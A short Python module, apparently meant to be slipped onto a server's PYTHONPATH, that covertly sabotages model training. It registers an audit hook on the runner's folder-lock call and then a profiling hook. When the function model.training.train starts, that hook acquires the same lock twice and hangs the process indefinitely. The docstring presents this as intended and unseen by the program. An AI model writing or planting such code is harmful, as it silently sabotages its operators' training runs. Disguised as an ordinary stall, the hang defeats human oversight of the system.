"""Makes every training of a runner wait for ever, for a lock that it holds itself.

On PYTHONPATH of a server, its runner inherits it. The program itself knows nothing of
it: the interpreter's profiling hook tells of every call, from when the runner takes
its folder's lock. Before that, a second's worth of calls imports modules.
"""

import sys
import threading
from types import FrameType


def _look_out(event: str, _: object) -> None:
    if event == "fcntl.flock":
        sys.setprofile(_deadlock)


def _deadlock(frame: FrameType, event: str, _: object) -> None:
    place = frame.f_globals.get("__name__"), frame.f_code.co_name
    if (event, *place) == ("call", "model.training", "train"):
        lock = threading.Lock()
        lock.acquire()
        lock.acquire()


if "app.runner" in sys.orig_argv:
    sys.addaudithook(_look_out)
